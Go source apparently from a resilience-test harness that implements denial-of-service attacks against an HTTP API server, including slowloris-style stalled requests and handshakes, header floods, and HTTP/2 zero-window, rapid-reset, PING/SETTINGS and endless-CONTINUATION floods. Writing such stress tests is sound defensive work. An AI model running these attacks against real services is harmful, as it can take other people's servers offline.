package hostile

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// largeList is a path whose response has several megabytes.
const largeList = "/api/v1/namespaces/hostile/configmaps"

// connectionAttacks returns the attacks on connections and streams.
func connectionAttacks() []attack {
	return []attack{
		{"bodies that never arrive", 300, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dial(ctx, "http/1.1"); err == nil {
				fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", largeList)
				holdConnectionOpen(ctx, conn)
			}
		}},
		{"responses never read", 100, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dial(ctx, "http/1.1"); err == nil {
				fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: a\r\n\r\n", largeList)
				<-ctx.Done()
			}
		}},
		{"slow handshakes", 300, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dialTCP(ctx); err == nil {
				_, _ = conn.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}) // the beginning of a ClientHello
				holdConnectionOpen(ctx, conn)
			}
		}},
		{"endless handshakes", 8, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dial(ctx, "h2"); err == nil {
				conn.Close()
			}
		}},
		{"idle connections", 2000, func(ctx context.Context, x *target, _ *rand.Rand) {
			x.dialing <- struct{}{} // these are idle connections; handshakes are another attack
			conn, err := x.dial(ctx, "http/1.1")
			<-x.dialing
			if err == nil {
				holdConnectionOpen(ctx, conn)
			}
		}},
		{"many headers", 8, func(ctx context.Context, x *target, _ *rand.Rand) {
			conn, err := x.dial(ctx, "http/1.1")
			if err != nil {
				return
			}
			fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: a\r\n")
			for i := range 200_000 {
				if _, err := fmt.Fprintf(conn, "X-%d: y\r\n", i); err != nil {
					break
				}
			}
			conn.Close()
		}},
		{"watches never read", 200, func(ctx context.Context, x *target, _ *rand.Rand) {
			if conn, err := x.dial(ctx, "http/1.1"); err == nil {
				fmt.Fprintf(conn, "GET %s?watch=1 HTTP/1.1\r\nHost: a\r\n\r\n", largeList)
				<-ctx.Done()
			}
		}},
		{"zero windows", 8, requestWithoutWindow},
		{"resets", 8, resetStreams},
		{"pings and settings", 4, floodControlFrames},
		{"endless headers", 4, sendEndlessHeaders},
	}
}

// rawHTTP2 is an HTTP/2 connection of a client that may violate the protocol.
type rawHTTP2 struct {
	*http2.Framer
	encoded bytes.Buffer
	encoder *hpack.Encoder
}

// dialRawHTTP2 opens an HTTP/2 connection with an initial window for streams. It returns nil on
// failure.
func (x *target) dialRawHTTP2(ctx context.Context, window uint32) *rawHTTP2 {
	conn, err := x.dial(ctx, "h2")
	if err != nil {
		return nil
	}
	c := &rawHTTP2{Framer: http2.NewFramer(conn, conn)}
	c.encoder = hpack.NewEncoder(&c.encoded)
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	}
	if err != nil {
		conn.Close()
		return nil
	}
	// Frames from the server are read and discarded so that its writes do not block.
	go func() { _, _ = io.Copy(io.Discard, conn); conn.Close() }()
	return c
}

// encodeHeaders returns the header block of a GET. It is valid until the next call.
func (c *rawHTTP2) encodeHeaders(path string) []byte {
	c.encoded.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "a"}, {":path", path}} {
		_ = c.encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return c.encoded.Bytes()
}

// get sends a GET on a stream.
func (c *rawHTTP2) get(id uint32, path string) error {
	return c.WriteHeaders(http2.HeadersFrameParam{
		StreamID:      id,
		BlockFragment: c.encodeHeaders(path),
		EndHeaders:    true,
		EndStream:     true,
	})
}

// requestWithoutWindow requests large lists with a window of zero, so that no response can be sent.
func requestWithoutWindow(ctx context.Context, attacked *target, _ *rand.Rand) {
	c := attacked.dialRawHTTP2(ctx, 0)
	if c == nil {
		return
	}
	for id := uint32(1); id < 2*200; id += 2 {
		if c.get(id, largeList) != nil {
			return
		}
	}
	<-ctx.Done()
}

// resetStreams opens streams and resets them at once.
func resetStreams(ctx context.Context, attacked *target, _ *rand.Rand) {
	c := attacked.dialRawHTTP2(ctx, 1<<16)
	if c == nil {
		return
	}
	for id := uint32(1); id < 1<<30; id += 2 {
		if c.get(id, largeList) != nil || c.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

// floodControlFrames sends PING and SETTINGS frames in a loop.
func floodControlFrames(ctx context.Context, attacked *target, _ *rand.Rand) {
	c := attacked.dialRawHTTP2(ctx, 1<<16)
	if c == nil {
		return
	}
	for c.WritePing(false, [8]byte{}) == nil &&
		c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}) == nil {
	}
}

// sendEndlessHeaders sends a header section in CONTINUATION frames that never end.
func sendEndlessHeaders(ctx context.Context, attacked *target, _ *rand.Rand) {
	c := attacked.dialRawHTTP2(ctx, 1<<16)
	if c == nil {
		return
	}
	if c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.encodeHeaders(largeList), EndStream: true}) != nil {
		return
	}
	for {
		c.encoded.Reset()
		_ = c.encoder.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 8000), Sensitive: true})
		if c.WriteContinuation(1, false, c.encoded.Bytes()) != nil {
			return
		}
	}
}

// attackerClient returns a client with the attacker's certificate and new connections.
func (x *target) attackerClient() *http.Client { return newClient(x.attackerCert) }
